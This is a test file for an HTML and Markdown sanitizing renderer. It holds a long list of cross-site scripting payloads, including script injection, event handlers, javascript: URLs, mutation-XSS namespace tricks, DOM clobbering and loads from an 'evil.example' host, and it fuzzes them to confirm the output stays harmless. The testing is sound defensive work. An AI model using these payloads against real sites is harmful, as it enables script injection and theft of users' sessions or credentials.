import fc from 'fast-check'
import type { Nodes } from 'hast'
import { describe, expect, it } from 'vitest'
import { parseHtml } from './parse-html.ts'
import { renderHtml, renderMarkdown } from './render.ts'

const elements = new Set(
  'a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr math menclose mfrac mi mn mo mover mpadded mphantom mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover mmultiscripts mprescripts none merror mlabeledtr'.split(
    ' ',
  ),
)

/** Returns the forbidden things that a browser would find in a text; empty for a harmless one. */
function dangers(html: string): string[] {
  const found: string[] = []
  const look = (node: Nodes) => {
    if (node.type === 'comment') found.push('comment')
    if (node.type === 'element') {
      if (!elements.has(node.tagName)) found.push(`<${node.tagName}>`)
      for (const [name, value] of Object.entries(node.properties)) {
        if (/^on/i.test(name) && name !== 'open') found.push(name)
        if (/^(style|srcDoc|srcSet|formAction|action|xLinkHref|background|name|target|ping|manifest)$/i.test(name))
          found.push(name)
        if (
          /^(href|src|cite|data)$/i.test(name) &&
          !/^(https?:|mailto:|#t[0-9a-f]{7}-|\/(?![/\\]))/.test(String(value))
        ) {
          found.push(`${name}=${value}`)
        }
        if (name === 'id' && !/^t[0-9a-f]{7}-/.test(String(value))) found.push(`id=${value}`)
      }
    }
    if ('children' in node) node.children.forEach(look)
  }
  look(parseHtml(html))
  return found
}

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:,alert(1)>',
  '<script\0>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img src=//evil.example/x.png style="position:fixed;inset:0">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&#x0A;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://good.example" target="_blank" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<a id=location name=location href="#x">x</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<form id=body><input id=cookie name=cookie></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template><template><img src=x onerror=alert(1)></template></template>',
  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<embed src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster=javascript:alert(1) src=x onloadstart=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<frameset onload=alert(1)></frameset>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<input autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<p onmouseover=alert(1) tabindex=1 accesskey=x contenteditable>x</p>',
  '<p id="__proto__"><p id="constructor"><p id="app">x</p>',
  '<a name="getElementById">x</a><img name="currentScript">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</p><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '\u2028<script>alert(1)</script>',
  '<a href="https://x.example/&quot;onmouseover=alert(1)">x</a>',
  '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src="https://x.example/a.png">',
  '<b><p><b><p></b></b><img src=x onerror=alert(1)></p>',
  '<custom-element onclick=alert(1) is="x-y">x</custom-element>',
]

const markdownAttacks: readonly string[] = [
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](  javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://x.example/a.png)',
  '![x](https://x.example/a.png"onerror="alert(1))',
  '[x](https://x.example "t\\" onclick=\\"alert(1)")',
  '[x](//evil.example)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^constructor]\n\n[^constructor]: x',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\htmlData{x=y}{z}$ $\\htmlStyle{color:red}{z}$ $\\includegraphics{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$$\n</math><script>alert(1)</script>\n$$',
  '$\\class{x" onclick="alert(1)}{y}$',
  '# <a id=body></a> onload',
  '<div\n\nonclick=alert(1)>\n\nx',
  '<script>\n\nalert(1)\n',
  '<a href="\n\njavascript:alert(1)">x</a>',
]

describe('attacks come to nothing', () => {
  it.each(attacks)('in HTML: %s', (attack) => {
    expect(dangers(renderHtml(attack).html)).toEqual([])
    expect(dangers(renderHtml(`<p>a</p>${attack}<p>b</p>`, { baseUrl: 'https://x.example/' }).html)).toEqual([])
  })
  it.each([...attacks, ...markdownAttacks])('in Markdown: %s', (attack) => {
    expect(dangers(renderMarkdown(attack).html)).toEqual([])
    expect(dangers(renderMarkdown(`- a ${attack} b\n\n${attack}`).html)).toEqual([])
  })
  it('keeps the words around them', () => {
    expect(renderHtml('<p>before<script>alert(1)</script> after</p>').text).toBe('before after')
    expect(renderMarkdown('before <img src=x onerror=alert(1)> after').text).toBe('before after')
  })
  it('finds a danger where there is one', () => {
    expect(dangers('<img src=x onerror=alert(1)><a href="javascript:x">')).toEqual([
      'src=x',
      'onError',
      'href=javascript:x',
    ])
  })
})

const fragment = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...attacks, ...markdownAttacks) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '/',
      '\\',
      '&lt;',
      '-->',
      '<!--',
      ']]>',
      '\n\n',
      '    ',
      '$',
      '|',
      '[',
      '](',
      '</',
      '\0',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '<svg>',
      '<math>',
      '<mtext>',
      '<style>',
      '<table>',
      '<select>',
      '<template>',
      '<p>',
      '<a>',
      '<title>',
      '<foreignObject>',
      '</p>',
      '</table>',
      '</svg>',
    ),
  },
)
const soup = fc.oneof(
  fc.array(fragment, { maxLength: 8 }).map((parts) => parts.join('')),
  // Cut anywhere: half a tag of one attack runs into another.
  fc
    .tuple(fc.constantFrom(...attacks), fc.constantFrom(...attacks), fc.nat(60))
    .map(([a, b, at]) => a.slice(0, at) + b),
)

describe('any mixture', () => {
  it('is harmless as HTML, and stays so when it is read and written again', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const once = renderHtml(html).html
        expect(dangers(once)).toEqual([])
        expect(dangers(renderHtml(once).html)).toEqual([])
        expect(once).not.toContain('\0')
        expect(once.isWellFormed()).toBe(true)
      }),
      { numRuns: 400 },
    )
  })
  it('is harmless as Markdown', () => {
    fc.assert(
      fc.property(soup, (markdown) => {
        const { html, text, summary } = renderMarkdown(markdown)
        expect(dangers(html)).toEqual([])
        expect((html + text + summary).isWellFormed()).toBe(true)
      }),
      { numRuns: 400 },
    )
  })
})

describe('a paragraph of many lines', () => {
  it.each([
    ['lines that begin as tags', '\n<'],
    ['lines of text', '\na'],
    ['lines that begin as tags, of Windows', '\r\n<'],
  ])('is refused before it is parsed: %s', (_, line) => {
    expect(() => renderMarkdown(line.repeat(40_000))).toThrow('too long')
    expect(() => renderMarkdown(`${line.repeat(40)}\n\n`.repeat(300))).not.toThrow()
  })
})
